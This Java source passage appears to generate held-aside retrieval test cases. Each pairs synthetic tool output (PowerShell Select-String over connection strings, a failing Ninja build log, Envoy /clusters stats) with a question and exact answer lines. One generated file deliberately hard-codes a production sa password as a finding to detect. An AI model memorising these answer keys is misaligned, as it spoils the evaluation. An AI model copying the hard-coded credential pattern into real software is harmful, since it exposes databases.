            l.add("    public async Task<" + noun + "Dto?> Get" + noun + "Async(Guid id, CancellationToken ct)");
            l.add("    {");
            l.add("        var entity = await _db." + noun + "s.AsNoTracking().FirstOrDefaultAsync(x => x.Id == id, ct);");
            l.add("        if (entity is null)");
            l.add("        {");
            l.add("            _logger.LogDebug(\"" + noun + " {Id} not found\", id);");
            l.add("            return null;");
            l.add("        }");
            l.add("        return _mapper.Map<" + noun + "Dto>(entity);");
            l.add("    }");
        }
    }

    /**
     * Get-ChildItem -Recurse over a .NET shop's src and tools folders piped to Select-String -Pattern 'ConnectionString'
     * -Context 2,2 (case-insensitive, so connectionString variables match too): for each of about 25 projects the
     * appsettings files' ConnectionStrings sections (placeholders for production passwords, LocalDB for development),
     * Program.cs and the persistence registration reading GetConnectionString("Default"), design-time DbContext factories
     * and Testcontainers in the test projects; matches marked "> ", context lines "  ", each with path and line number.
     * Two places still read the legacy OrdersDb connection string (Shop.Legacy's OrderExportJob and Shop.Worker's
     * NightlyReconciliation), and the Migrator tool hard-codes a production connection string with the sa password. The
     * question asks exactly that: the two OrdersDb match lines and the hard-coded one.
     */
    static NeedleCase selectString() {
        Gen g = new Gen(220_010);
        Gen out = new Gen(0);
        Map<String, String> shown = new HashMap<>();
        out.add("");
        String[] projects = {"Api", "Orders", "Billing", "Catalog", "Inventory", "Pricing", "Search", "Identity", "Notifications", "Shipping",
            "Payments", "Reporting", "Admin", "Cms", "Reviews", "Loyalty", "Returns", "Worker", "Legacy", "Integration.Erp", "Integration.Marketplace",
            "Gateway", "Vouchers", "Recommendations", "Media"};
        String pat = "connectionstring";
        String legacyRead = null;
        String workerRead = null;
        for (String p : projects) {
            String dir = "src\\Shop." + p;
            String db = "Shop." + p.replace("Integration.", "");
            String ctx = p.replace(".", "") + "DbContext";
            // appsettings.json
            List<String> json = new ArrayList<>(List.of("{", "  \"Logging\": {", "    \"LogLevel\": {", "      \"Default\": \"Information\",",
                    "      \"Microsoft.AspNetCore\": \"Warning\"", "    }", "  },", "  \"ConnectionStrings\": {"));
            String secret = "__" + db.toUpperCase(Locale.ROOT).replace('.', '_') + "_DB_PASSWORD__";
            json.add("    \"Default\": \"Server=sql-prod-0" + g.between(1, 2) + ".shop.local;Database=" + db + ";User Id=" + db.toLowerCase(Locale.ROOT)
                    .replace('.', '_') + ";Password=" + secret + ";TrustServerCertificate=True\",");
            if (p.equals("Legacy") || p.equals("Worker")) {
                json.add("    \"OrdersDb\": \"Server=sql-legacy-01.shop.local;Database=Orders;Integrated Security=true;TrustServerCertificate=True\",");
            }
            json.add("    \"Redis\": \"redis-0" + g.between(1, 3) + ".shop.local:6379,abortConnect=false\"");
            json.add("  },");
            if (g.chance(0.5)) {
                json.add("  \"Kestrel\": {");
                json.add("    \"Endpoints\": { \"Http\": { \"Url\": \"http://0.0.0.0:8080\" } }");
                json.add("  },");
            }
            json.add("  \"AllowedHosts\": \"*\"");
            json.add("}");
            selectString(out, dir + "\\appsettings.json", json, pat, shown);
            List<String> dev = new ArrayList<>(List.of("{", "  \"ConnectionStrings\": {", "    \"Default\": \"Server=(localdb)\\\\mssqllocaldb;Database=" + db
                    + ".Dev;Trusted_Connection=True;MultipleActiveResultSets=true\"", "  },", "  \"Logging\": {", "    \"LogLevel\": {",
                    "      \"Default\": \"Debug\"", "    }", "  }", "}"));
            selectString(out, dir + "\\appsettings.Development.json", dev, pat, shown);
            // Program.cs
            List<String> program = new ArrayList<>();
            program.add("using " + db + ".Infrastructure;");
            program.add("using Serilog;");
            program.add("");
            program.add("var builder = WebApplication.CreateBuilder(args);");
            program.add("");
            program.add("builder.Host.UseSerilog((ctx, cfg) => cfg.ReadFrom.Configuration(ctx.Configuration));");
            program.add("builder.Services.AddControllers();");
            program.add("builder.Services.AddEndpointsApiExplorer();");
            program.add("builder.Services.AddSwaggerGen();");
            program.add("builder.Services.Add" + p.replace(".", "") + "Persistence(builder.Configuration);");
            if (g.chance(0.5)) {
                program.add("builder.Services.AddStackExchangeRedisCache(o => o.Configuration = builder.Configuration.GetConnectionString(\"Redis\"));");
            }
            program.add("builder.Services.AddHealthChecks();");
            program.add("");
            program.add("var app = builder.Build();");
            program.add("app.UseSerilogRequestLogging();");
            program.add("app.MapControllers();");
            program.add("app.MapHealthChecks(\"/health\");");
            program.add("app.Run();");
            selectString(out, dir + "\\Program.cs", program, pat, shown);
            // persistence registration
            List<String> reg = csUsings(g, db + ".Infrastructure");
            reg.add("public static class ServiceCollectionExtensions");
            reg.add("{");
            reg.add("    public static IServiceCollection Add" + p.replace(".", "") + "Persistence(this IServiceCollection services, IConfiguration configuration)");
            reg.add("    {");
            reg.add("        var connectionString = configuration.GetConnectionString(\"Default\")");
            reg.add("            ?? throw new InvalidOperationException(\"Connection string 'Default' not found.\");");
            reg.add("        services.AddDbContext<" + ctx + ">(options => options.UseSqlServer(connectionString, sql => sql.EnableRetryOnFailure(5)));");
            reg.add("        services.AddScoped<IUnitOfWork, UnitOfWork<" + ctx + ">>();");
            reg.add("        services.AddHealthChecks().AddSqlServer(connectionString, name: \"" + db.toLowerCase(Locale.ROOT) + "-db\");");
            reg.add("        return services;");
            reg.add("    }");
            reg.add("}");
            selectString(out, dir + "\\Infrastructure\\ServiceCollectionExtensions.cs", reg, pat, shown);
            // design-time factory
            if (g.chance(0.6)) {
                List<String> f = csUsings(g, db + ".Infrastructure");
                f.add("public sealed class " + ctx + "Factory : IDesignTimeDbContextFactory<" + ctx + ">");
                f.add("{");
                f.add("    public " + ctx + " CreateDbContext(string[] args)");
                f.add("    {");
                f.add("        var connectionString = args.FirstOrDefault()");
                f.add("            ?? \"Server=(localdb)\\\\mssqllocaldb;Database=" + db + ".Design;Trusted_Connection=True\";");
                f.add("        var options = new DbContextOptionsBuilder<" + ctx + ">().UseSqlServer(connectionString).Options;");
                f.add("        return new " + ctx + "(options);");
                f.add("    }");
                f.add("}");
                selectString(out, dir + "\\Infrastructure\\" + ctx + "Factory.cs", f, pat, shown);
            }
            if (p.equals("Legacy")) {
                List<String> f = csUsings(g, "Shop.Legacy.Export");
                f.add("public sealed class OrderExportJob : IHostedJob");
                f.add("{");
                f.add("    private readonly IConfiguration _configuration;");
                f.add("    private readonly ILogger<OrderExportJob> _logger;");
                f.add("");
                f.add("    public OrderExportJob(IConfiguration configuration, ILogger<OrderExportJob> logger)");
                f.add("    {");
                f.add("        _configuration = configuration;");
                f.add("        _logger = logger;");
                f.add("    }");
                f.add("");
                f.add("    public async Task ExecuteAsync(CancellationToken ct)");
                f.add("    {");
                f.add("        _logger.LogInformation(\"Exporting open orders to the ERP drop folder\");");
                f.add("        var cs = _configuration.GetConnectionString(\"OrdersDb\");");
                f.add("        await using var connection = new SqlConnection(cs);");
                f.add("        await connection.OpenAsync(ct);");
                int at = f.size() - 2;
                csFiller(g, f, 3);
                String path = dir + "\\Export\\OrderExportJob.cs";
                selectString(out, path, f, pat, shown);
                legacyRead = shown.get(path + ":" + at);
            }
            if (p.equals("Worker")) {
                List<String> f = csUsings(g, "Shop.Worker.Jobs");
                f.add("public sealed class NightlyReconciliation : BackgroundService");
                f.add("{");
                f.add("    private readonly string _ordersConnectionString;");
                f.add("    private readonly ILogger<NightlyReconciliation> _logger;");
                f.add("");
                f.add("    public NightlyReconciliation(IConfiguration configuration, ILogger<NightlyReconciliation> logger)");
                f.add("    {");
                f.add("        _ordersConnectionString = configuration.GetConnectionString(\"OrdersDb\")");
                int at = f.size();
                f.add("            ?? throw new InvalidOperationException(\"OrdersDb is not configured\");");
                f.add("        _logger = logger;");
                f.add("    }");
                f.add("");
                f.add("    protected override async Task ExecuteAsync(CancellationToken stoppingToken)");
                f.add("    {");
                f.add("        while (!stoppingToken.IsCancellationRequested)");
                f.add("        {");
                f.add("            await using var connection = new SqlConnection(_ordersConnectionString);");
                f.add("            await connection.OpenAsync(stoppingToken);");
                f.add("            await ReconcileAsync(connection, stoppingToken);");
                f.add("            await Task.Delay(TimeSpan.FromHours(24), stoppingToken);");
                f.add("        }");
                f.add("    }");
                f.add("}");
                String path = dir + "\\Jobs\\NightlyReconciliation.cs";
                selectString(out, path, f, pat, shown);
                workerRead = shown.get(path + ":" + at);
            }
            // tests
            if (g.chance(0.7)) {
                List<String> t = csUsings(g, db + ".Tests");
                t.add("using Testcontainers.MsSql;");
                t.add("");
                t.add("public sealed class DatabaseFixture : IAsyncLifetime");
                t.add("{");
                t.add("    private readonly MsSqlContainer _container = new MsSqlBuilder().WithImage(\"mcr.microsoft.com/mssql/server:2022-CU14-ubuntu-22.04\").Build();");
                t.add("");
                t.add("    public string ConnectionString => _container.GetConnectionString();");
                t.add("");
                t.add("    public Task InitializeAsync() => _container.StartAsync();");
                t.add("");
                t.add("    public Task DisposeAsync() => _container.DisposeAsync().AsTask();");
                t.add("}");
                selectString(out, "src\\Shop." + p + ".Tests\\DatabaseFixture.cs", t, pat, shown);
            }
        }
        List<String> mig = new ArrayList<>();
        mig.add("using Microsoft.Data.SqlClient;");
        mig.add("using Shop.Migrator;");
        mig.add("");
        mig.add("// TODO: read from the environment before committing");
        String hard = "const string ConnectionString = \"Server=sql-prod-01.shop.local;Database=Shop;User Id=sa;Password=Winter2024!;TrustServerCertificate=True\";";
        mig.add(hard);
        mig.add("");
        mig.add("var dryRun = args.Contains(\"--dry-run\");");
        mig.add("var runner = new MigrationRunner(ConnectionString, dryRun);");
        mig.add("await runner.RunAsync(Console.Out);");
        selectString(out, "tools\\Migrator\\Program.cs", mig, pat, shown);
        String hardLine = shown.get("tools\\Migrator\\Program.cs:5");
        List<String> seed = new ArrayList<>();
        seed.add("using Shop.Seeder;");
        seed.add("");
        seed.add("var connectionString = Environment.GetEnvironmentVariable(\"SHOP_SEED_CONNECTION\")");
        seed.add("    ?? \"Server=(localdb)\\\\mssqllocaldb;Database=Shop.Dev;Trusted_Connection=True\";");
        seed.add("await new Seeder(connectionString).SeedAsync(products: 5_000, customers: 20_000);");
        selectString(out, "tools\\Seeder\\Program.cs", seed, pat, shown);
        out.add("");
        out.add("");
        String text = out.text();
        requireLines(out, 600, 2000);
        requireCount(text, "GetConnectionString(\"OrdersDb\")", 2);
        requireCount(text, "Password=Winter2024!", 1);
        if (legacyRead == null || workerRead == null || hardLine == null || !legacyRead.startsWith("> ") || !workerRead.startsWith("> ")
                || !hardLine.startsWith("> ")) {
            throw new IllegalStateException("select-string needles");
        }
        return NeedleCase.named("fresh19_select_string", "search", "powershell-select-string")
                .tool("powershell", "{\"command\":\"" + Json.escape("Get-ChildItem -Path src,tools -Recurse -Include *.cs,*.json | Select-String"
                        + " -Pattern 'ConnectionString' -Context 2,2") + "\"}")
                .question("We are retiring the legacy OrdersDb database. Where in our code is the OrdersDb connection string still read? And is there"
                        + " a connection string with a real password hard-coded anywhere?")
                .heldAside()
                .build(text, List.of(Needle.exact(legacyRead), Needle.exact(workerRead), Needle.exact(hardLine)));
    }

    // ---------------------------------------------------------------- cmake --build with Ninja

    private record Step(String text, String source, String module) {}

    /**
     * cmake --build build --parallel 16 of a C++ vector database in CI (GCC 13, Ninja, -Werror for the project's own
     * code): the "[n/total] Building C/CXX object" and "Linking" lines of third-party libraries (zlib, lz4, zstd, fmt,
     * spdlog, googletest) and the project's modules, warning blocks from zlib, lz4, zstd, spdlog and googletest with their
     * source excerpts and carets, fmt's deprecation notes, then two failures while sixteen jobs are in flight:
     * segment_writer.h uses uint32_t without including &lt;cstdint&gt; (GCC 13 no longer pulls it in; its note suggests the
     * include), and parser.cc compares an int with a size_t under -Werror=sign-compare. Ninja finishes the running jobs and stops. The question asks for the
     * compile errors and the fix: the two FAILED lines, the two error lines and the note.
     */
    static NeedleCase cmakeNinja() {
        Gen g = new Gen(220_011);
        String root = "/home/ci/work/vectorstore";
        List<Step> wave1 = new ArrayList<>();
        String[][] thirdParty = {{"zlib", "zlibstatic", "C", "adler32,compress,crc32,deflate,gzclose,gzlib,gzread,gzwrite,infback,inffast,inflate,"
            + "inftrees,trees,uncompr,zutil"}, {"lz4", "lz4_static", "C", "lib/lz4,lib/lz4frame,lib/lz4hc,lib/xxhash"}, {"zstd", "libzstd_static", "C",
            "lib/common/debug,lib/common/entropy_common,lib/common/error_private,lib/common/fse_decompress,lib/common/pool,lib/common/threading,"
            + "lib/common/xxhash,lib/common/zstd_common,lib/compress/fse_compress,lib/compress/hist,lib/compress/huf_compress,"
            + "lib/compress/zstd_compress,lib/compress/zstd_compress_literals,lib/compress/zstd_compress_sequences,"
            + "lib/compress/zstd_compress_superblock,lib/compress/zstd_double_fast,lib/compress/zstd_fast,lib/compress/zstd_lazy,"
            + "lib/compress/zstd_ldm,lib/compress/zstd_opt,lib/compress/zstdmt_compress,lib/decompress/huf_decompress,lib/decompress/zstd_ddict,"
            + "lib/decompress/zstd_decompress,lib/decompress/zstd_decompress_block,lib/dictBuilder/cover,lib/dictBuilder/divsufsort,"
            + "lib/dictBuilder/fastcover,lib/dictBuilder/zdict"}, {"fmt", "fmt", "CXX", "src/format,src/os"}, {"spdlog", "spdlog", "CXX",
            "src/spdlog,src/stdout_sinks,src/color_sinks,src/file_sinks,src/async,src/cfg,src/bundled_fmtlib_format"}, {"googletest",
            "gtest", "CXX", "googletest/src/gtest-all"}, {"googletest", "gtest_main", "CXX", "googletest/src/gtest_main"}, {"googletest", "gmock",
            "CXX", "googlemock/src/gmock-all"}};
        for (String[] t : thirdParty) {
            for (String f : t[3].split(",")) {
                String ext = t[2].equals("C") ? ".c" : t[0].equals("spdlog") ? ".cpp" : ".cc";
                wave1.add(new Step("Building " + t[2] + " object third_party/" + t[0] + "/CMakeFiles/" + t[1] + ".dir/" + f + ext + ".o",
                        "third_party/" + t[0] + "/" + f + ext, t[0]));
            }
        }
        String[][] modules = {{"util", "bits,crc32c,env,file,hash,logging,memory_pool,random,status,string_util,thread_pool,time,uuid,varint,arena,"
            + "bloom,histogram,config,signal,stacktrace"}, {"core", "collection,schema,field,vector,metric/l2,metric/ip,metric/cosine,metric/hamming,"
            + "filter/expr,filter/parser,filter/eval,catalog,segment,segment_meta,snapshot,version_set,compaction,compaction_picker,tombstones,"
            + "id_allocator,options,stats,ttl,partition,shard,shard_router,replica,manifest,manifest_writer,recovery"}, {"storage", "wal/segment_writer,"
            + "wal/segment_reader,wal/log_manager,wal/checkpoint,sst/block_builder,sst/block_reader,sst/table_builder,sst/table_reader,sst/filter_block,"
            + "sst/index_block,cache/lru,cache/clock,cache/block_cache,io/posix_file,io/io_uring,io/direct_io,io/mmap_file,blob/blob_store,"
            + "blob/blob_gc,compress/codec,compress/lz4_codec,compress/zstd_codec,compress/zlib_codec,object_store/s3,object_store/gcs,"
            + "object_store/local,tiered/mover,tiered/policy"}, {"index", "flat,ivf/ivf_index,ivf/kmeans,ivf/quantizer,hnsw/hnsw_index,hnsw/graph,"
            + "hnsw/search,hnsw/insert,hnsw/prune,pq/product_quantizer,pq/codebook,pq/adc,sq/scalar_quantizer,diskann/vamana,diskann/beam_search,"
            + "diskann/pq_flash,bitmap/roaring,bitmap/bitmap_index,inverted/posting,inverted/tokenizer,builder,registry,simd/avx2,simd/avx512,simd/neon"},
            {"query", "planner,optimizer,executor,operators/scan,operators/filter,operators/topk,operators/merge,operators/rerank,operators/project,"
                + "operators/limit,hybrid/bm25,hybrid/fusion,session,cursor,result_set,cost_model,rewrite/pushdown,rewrite/prune,explain"},
            {"net", "http/parser,http/router,http/server,http/response,grpc/service,grpc/codec,grpc/server,tls/context,tls/session,conn/pool,"
                + "conn/acceptor,rate_limiter,auth/token,auth/basic,metrics/prometheus"}, {"server", "main_loop,admin,health,cluster/membership,"
                + "cluster/gossip,cluster/raft_log,cluster/raft_node,cluster/raft_rpc,api/collections,api/points,api/search,api/snapshots,config_loader"}};
        List<Step> wave2 = new ArrayList<>();
        for (String[] m : modules) {
            for (String f : m[1].split(",")) {
                wave2.add(new Step("Building CXX object src/" + m[0] + "/CMakeFiles/" + m[0] + ".dir/" + f + ".cc.o", "src/" + m[0] + "/" + f + ".cc", m[0]));
            }
        }
        List<Step> wave3 = new ArrayList<>();
        for (String[] m : modules) {
            for (String f : m[1].split(",")) {
                if (g.chance(0.7)) {
                    String test = f.replace('/', '_') + "_test";
                    wave3.add(new Step("Building CXX object tests/unit/CMakeFiles/" + m[0] + "_tests.dir/" + m[0] + "/" + test + ".cc.o",
                            "tests/unit/" + m[0] + "/" + test + ".cc", "tests"));
                }
            }
        }
        String segment = "src/storage/CMakeFiles/storage.dir/wal/segment_writer.cc.o";
        String parser = "src/net/CMakeFiles/net.dir/http/parser.cc.o";
        List<Step> later = new ArrayList<>(wave2);
        later.addAll(wave3);
        Step segStep = null;
        Step parStep = null;
        for (Step s : later) {
            if (s.text().endsWith(segment)) {
                segStep = s;
            } else if (s.text().endsWith(parser)) {
                parStep = s;
            }
        }
        later.remove(segStep);
        later.remove(parStep);
        List<Step> plan = new ArrayList<>();
        for (List<Step> wave : List.of(wave1, later)) {
            List<Step> w = new ArrayList<>(wave);
            for (int i = w.size() - 1; i > 0; i--) {
                int j = g.nextInt(i + 1);
                Step tmp = w.get(i);
                w.set(i, w.get(j));
                w.set(j, tmp);
            }
            plan.addAll(w);
        }
        int segAt = wave1.size() + later.size() * 3 / 4;
        plan.add(segAt, segStep);
        plan.add(segAt + 5, parStep);
        Map<String, Integer> left = new java.util.TreeMap<>();
        for (Step s : plan) {
            left.merge(s.module(), 1, Integer::sum);
        }
        int total = plan.size() + left.size() + 3 * modules.length;
        String flags = "-O2 -g -DNDEBUG -std=gnu++20 -fPIC -Wall -Wextra -Wpedantic -Werror -march=x86-64-v2";
        String includes = "-DSPDLOG_COMPILED_LIB -DSPDLOG_FMT_EXTERNAL -I" + root + "/src -I" + root + "/build/src -isystem " + root
                + "/third_party/fmt/include -isystem " + root + "/third_party/spdlog/include -isystem " + root + "/third_party/zstd/lib -isystem " + root
                + "/third_party/lz4/lib";
        Gen out = new Gen(0);
        String segmentError = root + "/src/storage/wal/segment_writer.h:42:5: error: 'uint32_t' does not name a type";
        String segmentNote = root + "/src/storage/wal/segment_writer.h:8:1: note: 'uint32_t' is defined in header '<cstdint>'; this is probably"
                + " fixable by adding '#include <cstdint>'";
        String parserError = root + "/src/net/http/parser.cc:214:23: error: comparison of integer expressions of different signedness: 'int' and"
                + " 'std::basic_string_view<char>::size_type' {aka 'long unsigned int'} [-Werror=sign-compare]";
        String[][] warnings = {{"zstd", "lib/compress/zstd_compress.c", "In function 'ZSTD_compressBlock_internal':", "3021:12",
            "variable 'lastLitSize' set but not used [-Wunused-but-set-variable]", "    size_t lastLitSize = 0;", "           ^~~~~~~~~~~"},
            {"zstd", "lib/dictBuilder/divsufsort.c", "In function 'sort_typeBstar':", "1247:22",
                "'t' may be used uninitialized [-Wmaybe-uninitialized]", "    for(c0 = ALPHABET_SIZE - 2, j = m; 0 < j; --c0) {",
                "                     ^"},
            {"zlib", "gzwrite.c", "In function 'gz_comp':", "89:13", "comparison of integer expressions of different signedness: 'int' and"
                + " 'unsigned int' [-Wsign-compare]", "        if (writ < 0) {", "            ^~~~"},
            {"spdlog", "src/async.cpp", "In member function 'void spdlog::details::thread_pool::post_async_msg_(async_msg&&, async_overflow_policy)':",
                "145:5", "this statement may fall through [-Wimplicit-fallthrough=]", "    case async_overflow_policy::overrun_oldest:",
                "    ^~~~"},
            {"googletest", "googletest/src/gtest-all.cc", "In member function 'void testing::internal::UnitTestImpl::ListTestsMatchingFilter()':",
                "5986:17", "unused variable 'kMaxTests' [-Wunused-variable]", "  const int kMaxTests = 1000;", "                ^~~~~~~~~"},
            {"lz4", "lib/lz4hc.c", "In function 'LZ4HC_compress_optimal':", "1512:9", "'matchLength' may be used uninitialized"
                + " [-Wmaybe-uninitialized]", "        int matchLength;", "        ^~~"}};
        Map<String, String[]> warnFor = new java.util.TreeMap<>();
        for (String[] w : warnings) {
            warnFor.put("third_party/" + w[0] + "/" + w[1], w);
        }
        Map<String, String> libs = new java.util.TreeMap<>(Map.of("zlib", "C static library third_party/zlib/libz.a", "lz4",
                "C static library third_party/lz4/liblz4.a", "zstd", "C static library third_party/zstd/libzstd.a", "fmt",
                "CXX static library third_party/fmt/libfmt.a", "spdlog", "CXX static library third_party/spdlog/libspdlog.a", "googletest",
                "CXX static library lib/libgtest.a"));
        for (String[] m : modules) {
            libs.put(m[0], "CXX static library src/" + m[0] + "/libvs_" + m[0] + ".a");
        }
        int n = 0;
        int stopAfter = -1;
        String segFailed = "FAILED: " + segment + " ";
        String parFailed = "FAILED: " + parser + " ";
        for (Step s : plan) {
            if (stopAfter >= 0 && n >= stopAfter) {
                break;
            }
            n++;
            out.add("[" + n + "/" + total + "] " + s.text());
            if (s == segStep) {
                out.add(segFailed);
                out.add("/usr/bin/g++-13 " + includes + " " + flags + " -MD -MT " + segment + " -MF " + segment + ".d -o " + segment + " -c " + root
                        + "/src/storage/wal/segment_writer.cc");
                out.add("In file included from " + root + "/src/storage/wal/segment_writer.cc:1:");
                out.add(segmentError);
                out.add("   42 |     uint32_t crc_ = 0;");
                out.add("      |     ^~~~~~~~");
                out.add(segmentNote);
                out.add("    7 | #include <string_view>");
                out.add("  +++ |+#include <cstdint>");
                out.add("    8 | ");
                out.add(root + "/src/storage/wal/segment_writer.h:43:5: error: 'uint64_t' does not name a type");
                out.add("   43 |     uint64_t bytes_written_ = 0;");
                out.add("      |     ^~~~~~~~");
                out.add(root + "/src/storage/wal/segment_writer.h:43:5: note: 'uint64_t' is defined in header '<cstdint>'; this is probably"
                        + " fixable by adding '#include <cstdint>'");
                // ninja starts nothing new: the jobs already running finish, the parser among them
                stopAfter = n + 11;
                continue;
            }
            if (s == parStep) {
                out.add(parFailed);
                out.add("/usr/bin/g++-13 " + includes + " " + flags + " -MD -MT " + parser + " -MF " + parser + ".d -o " + parser + " -c " + root
                        + "/src/net/http/parser.cc");
                out.add(root + "/src/net/http/parser.cc: In member function 'bool vs::net::http::Parser::parse_header(std::string_view)':");
                out.add(parserError);
                out.add("  214 |     for (int i = 0; i < line.size(); ++i) {");
                out.add("      |                     ~~^~~~~~~~~~~~~");
                out.add("cc1plus: all warnings being treated as errors");
                continue;
            }
            String[] w = warnFor.get(s.source());
            if (w != null) {
                String file = root + "/third_party/" + w[0] + "/" + w[1];
                out.add(file + ": " + w[2]);
                out.add(file + ":" + w[3] + ": warning: " + w[4]);
                out.add(lpad(w[3].substring(0, w[3].indexOf(':')), 5) + " | " + w[5]);
                out.add("      | " + w[6]);
            }
            if (s.source().endsWith("block_cache.cc") || s.source().endsWith("raft_log.cc") || s.source().endsWith("manifest_writer.cc")) {
                out.add("In file included from " + root + "/third_party/spdlog/include/spdlog/fmt/fmt.h:22,");
                out.add("                 from " + root + "/third_party/spdlog/include/spdlog/common.h:45,");
                out.add("                 from " + root + "/src/util/logging.h:6,");
                out.add("                 from " + root + "/" + s.source() + ":4:");
                out.add(root + "/third_party/fmt/include/fmt/format.h:1782:7: note: '#pragma message: fmt::formatter specialisation for std::atomic"
                        + " is deprecated'");
                out.add(" 1782 | #     pragma message(\"fmt::formatter specialisation for std::atomic is deprecated\")");
                out.add("      |       ^~~~~~~");
            }
            if (left.merge(s.module(), -1, Integer::sum) == 0 && libs.containsKey(s.module()) && stopAfter < 0) {
                n++;
                out.add("[" + n + "/" + total + "] Linking " + libs.get(s.module()));
            }
        }
        out.add("ninja: build stopped: subcommand failed.");
        String text = out.text();
        requireLines(out, 200, 700);
        requireCount(text, "FAILED: ", 2);
        requireCount(text, segmentError, 1);
        requireCount(text, parserError, 1);
        return NeedleCase.named("fresh19_cmake_ninja", "build", "cmake-ninja")
                .shell("cmake --build build --parallel 16")
                .question("The release build in CI failed at the compile step after we switched the runners to GCC 13. What are the actual compile"
                        + " errors (file and line), and how do I fix them?")
                .heldAside()
                .build(text, List.of(Needle.contains(segFailed.strip()), Needle.contains(parFailed.strip()), Needle.exact(segmentError),
                        Needle.exact(segmentNote), Needle.exact(parserError)));
    }

    // ---------------------------------------------------------------- Envoy admin /clusters

    /**
     * An Istio sidecar's Envoy admin /clusters (pilot-agent request GET clusters in the checkout pod): for each outbound
     * EDS cluster of the mesh's services its observability name, circuit breaker thresholds for both priorities,
     * added_via_api and eds_service_name, then eighteen stat lines per endpoint (connections, requests, errors, health
     * flags, weight, locality, success rates); static clusters (agent, prometheus_stats, sds-grpc, xds-grpc, zipkin,
     * BlackHoleCluster, PassthroughCluster) and the inbound cluster with fewer lines. Of payments' four endpoints two are
     * ejected by outlier detection (/failed_outlier_check), and payments' DestinationRule sets max_pending_requests to 10
     * and max_requests to 50 where every other cluster keeps Envoy's defaults. One recommendations endpoint is
     * /failed_eds_health, which the question does not ask about. The question asks which payments endpoints are unhealthy
     * and whether payments' circuit breaker limits are low: the two health_flags lines and the two thresholds.
     */
    static NeedleCase envoyClusters() {
        Gen g = new Gen(220_012);
        Gen out = new Gen(0);
        String[][] services = {{"payments", "8080", "4"}, {"cart", "8080", "3"}, {"catalog", "8080", "5"}, {"pricing", "8080", "3"},
            {"inventory", "8080", "3"}, {"orders-api", "8080", "4"}, {"recommendations", "8080", "3"}, {"shipping", "8080", "2"}, {"tax", "8080", "2"},
            {"vouchers", "8080", "2"}, {"accounts", "8080", "3"}, {"notifications", "8080", "2"}, {"fraud-check", "8443", "2"}, {"search", "9200", "3"},
            {"redis-sessions", "6379", "3"}, {"postgres", "5432", "1"}, {"pgbouncer", "6432", "2"}, {"kafka-bootstrap", "9092", "3"},
            {"reviews", "8080", "2"}, {"loyalty", "8080", "2"}, {"giftcards", "8080", "1"}, {"address-lookup", "8080", "2"}, {"currency-rates", "8080", "1"},
            {"feature-flags", "8080", "2"}};
        String[] zones = {"eu-west-1a", "eu-west-1b", "eu-west-1c"};
        List<String> needles = new ArrayList<>();
        java.util.function.BiConsumer<String, Boolean> header = (c, eds) -> {
            out.add(c + "::observability_name::" + c);
            boolean payments = c.contains("||payments.");
            String pending = payments ? "10" : "4294967295";
            String requests = payments ? "50" : "4294967295";
            out.add(c + "::default_priority::max_connections::4294967295");
            String p = c + "::default_priority::max_pending_requests::" + pending;
            String r = c + "::default_priority::max_requests::" + requests;
            out.add(p);
            out.add(r);
            out.add(c + "::default_priority::max_retries::4294967295");
            out.add(c + "::high_priority::max_connections::1024");
            out.add(c + "::high_priority::max_pending_requests::1024");
            out.add(c + "::high_priority::max_requests::1024");
            out.add(c + "::high_priority::max_retries::3");
            out.add(c + "::added_via_api::" + (eds ? "true" : "false"));
            if (eds) {
                out.add(c + "::eds_service_name::" + c);
            }
            if (payments) {
                needles.add(p);
                needles.add(r);
            }
        };
        String[] statics = {"agent", "prometheus_stats", "sds-grpc", "xds-grpc", "zipkin"};
        for (String s : statics) {
            header.accept(s, false);
            String addr = switch (s) {
                case "agent" -> "127.0.0.1:15020";
                case "prometheus_stats" -> "127.0.0.1:15000";
                case "sds-grpc" -> "./var/run/secrets/workload-spiffe-uds/socket";
                case "xds-grpc" -> "./etc/istio/proxy/XDS";
                default -> "10.100." + g.between(0, 255) + "." + g.between(1, 254) + ":9411";
            };
            hostStats(g, out, s, addr, "healthy", zones[0], false);
        }
        List<String> ejected = new ArrayList<>();
        for (String[] svc : services) {
            String c = "outbound|" + svc[1] + "||" + svc[0] + ".shop.svc.cluster.local";
            header.accept(c, true);
            int hosts = Integer.parseInt(svc[2]);
            for (int h = 0; h < hosts; h++) {
                String addr = "10.42." + g.between(0, 31) + "." + g.between(2, 254) + ":" + svc[1];
                String flags = "healthy";
                boolean bad = false;
                if (svc[0].equals("payments") && (h == 1 || h == 3)) {
                    flags = "/failed_outlier_check";
                    bad = true;
                } else if (svc[0].equals("recommendations") && h == 2) {
                    flags = "/failed_eds_health";
                }
                String line = hostStats(g, out, c, addr, flags, zones[h % 3], bad);
                if (bad) {
                    ejected.add(line);
                }
            }
        }
        header.accept("inbound|8080||", false);
        hostStats(g, out, "inbound|8080||", "10.42.7.19:8080", "healthy", zones[1], false);
        for (String s : List.of("BlackHoleCluster", "PassthroughCluster", "InboundPassthroughClusterIpv4")) {
            header.accept(s, false);
        }
        String text = out.text();
        requireLines(out, 1200, 2500);
        requireCount(text, "/failed_outlier_check", 2);
        requireCount(text, "::max_pending_requests::10\n", 1);
        List<Needle> result = new ArrayList<>();
        for (String l : ejected) {
            result.add(Needle.exact(l));
        }
        for (String l : needles) {
            result.add(Needle.exact(l));
        }
        return NeedleCase.named("fresh19_envoy_clusters", "lines", "envoy-admin-clusters")
                .shell("kubectl exec -n shop deploy/checkout -c istio-proxy -- pilot-agent request GET clusters")
                .question("checkout gets 503s with UO and UH flags when it calls payments. Which payments endpoints does the checkout sidecar"
                        + " consider unhealthy, and are the circuit breaker limits for payments set low?")
                .heldAside()
                .build(text, result);
    }

    /** The eighteen stat lines of one endpoint; returns its health_flags line. */
    private static String hostStats(Gen g, Gen out, String cluster, String addr, String flags, String zone, boolean ejected) {
        String p = cluster + "::" + addr + "::";
        int total = g.between(200, 90_000);
        int errors = ejected ? g.between(900, 3000) : g.nextInt(total / 400 + 1);
        int timeouts = ejected ? g.between(200, 900) : g.nextInt(4);
        out.add(p + "cx_active::" + (ejected ? 0 : g.between(0, 24)));
        out.add(p + "cx_connect_fail::" + (ejected ? g.between(300, 800) : g.nextInt(3)));
        out.add(p + "cx_total::" + g.between(10, 4000));
        out.add(p + "rq_active::" + (ejected ? 0 : g.nextInt(6)));
        out.add(p + "rq_error::" + errors);
        out.add(p + "rq_success::" + (total - errors));
        out.add(p + "rq_timeout::" + timeouts);
        out.add(p + "rq_total::" + total);
        out.add(p + "hostname::");
        String health = p + "health_flags::" + flags;
        out.add(health);
        out.add(p + "weight::1");
        out.add(p + "region::eu-west-1");
        out.add(p + "zone::" + zone);
        out.add(p + "sub_zone::");
